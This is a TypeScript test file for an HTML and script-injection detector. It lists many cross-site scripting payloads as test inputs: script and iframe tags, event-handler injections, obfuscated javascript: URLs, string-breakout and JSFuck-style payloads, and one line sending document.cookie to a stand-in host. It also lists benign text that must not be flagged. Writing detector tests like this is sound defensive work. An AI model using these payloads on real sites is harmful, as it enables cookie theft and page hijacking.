import { strict as assert } from 'node:assert'
import { test } from 'node:test'
import { htmlIn } from './html.ts'

const missed = (texts: readonly string[]): string[] => texts.filter((text) => !htmlIn(text).is)
const wrong = (texts: readonly string[]): string[] => texts.filter((text) => htmlIn(text).is)

test('elements that run script or load a document are seen', () => {
  assert.deepEqual(
    missed([
      `<script>f(1)</script>`,
      `<ScRiPt src=//h.example/a.js>`,
      `<script/x>f(1)`,
      `<iframe src=//h.example>`,
      `<object data=//h.example/a>`,
      `<embed src=//h.example/a>`,
      `<base href=//h.example/>`,
      `<meta http-equiv=refresh content="0;url=//h.example">`,
      `<svg><animate attributeName=href values=x>`,
      `<link rel=stylesheet href=//h.example/a.css>`,
      `<style>@import '//h.example/a.css'</style>`,
      `<iframe srcdoc="<p>a">`,
      `<p title="<script>f(1)</script>">`,
    ]),
    [],
  )
})

test('event handlers are seen by their form, on any element and in any attribute', () => {
  assert.deepEqual(
    missed([
      `<b onpointerrawupdate=f(1)>`,
      `<x-y/onfuturething="f(1)">`,
      `<img src=x onerror=f(1)`,
      `" onmouseover="f(1)`,
      `' autofocus onfocus='f(1)`,
      `x onfocus=f(1) autofocus`,
      `\` onclick=f(1)`,
      `"/onload=f(1)//`,
      `<svg\u000conload=f(1)>`,
      `<x 1=">" onclick=f(1)>`,
    ]),
    [],
  )
})

test('addresses that are script are seen through entities, white space and control characters', () => {
  assert.deepEqual(
    missed([
      `<a href=javascript:f(1)>`,
      `<a href="java\tscript:f(1)">`,
      `<a href=" &#106;avascript&colon;f(1)">`,
      `<a xlink:href="javascript:f(1)">`,
      `<form action='vbscript:f(1)'>`,
      `<a href="\u0001javascript:f(1)">`,
      `javascript:f(1)`,
      `<img src="data:text/html;base64,PHNjcmlwdD4=">`,
      `<div style="width:expression(f(1))">`,
      `<div style="behavior:url(#x)">`,
    ]),
    [],
  )
})

test('script that leaves a string is seen', () => {
  assert.deepEqual(
    missed([
      `';alert(1)//`,
      `"-confirm(1)-"`,
      `\`+prompt(1)+\``,
      `\${alert(1)}`,
      `');document.cookie='a'//`,
      `"};eval(name);//`,
      `'-top['al'+'ert'](1)-'`,
      `</script><script>f(1)`,
      `';new Image().src='//h.example/'+document.cookie//`,
      `[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]`,
    ]),
    [],
  )
})

test('what people write is no markup that runs', () => {
  assert.deepEqual(
    wrong([
      `a<b and c>d`,
      `I <3 you`,
      `<kim@example.org>`,
      `List<String> names`,
      `Map<String, List<Integer>>`,
      `x < y && y > z`,
      `<b>bold</b> and <i>italic</i>`,
      `<a href="/wiki/Tea" title="Tea">Tea</a>`,
      `<img src="/a.png" alt="one">`,
      `only=1&once=2`,
      `red alert (film)`,
      `prompt engineering (course)`,
      `she said "on time = good"`,
      `function of time`,
      `the window (left) is open`,
      `a=1; b=2; c=(3)`,
      `it's great (really)`,
      `data:image/png;base64,iVBORw0KGgo=`,
      `java script: a course`,
      `<span class="reference-text">1 &lt; 2</span>`,
      `if (a > b) { c = d }`,
      `style="color:red"`,
      `"quoted" and 'quoted'`,
      `document.pdf`,
      `top 10; best of`,
    ]),
    [],
  )
})
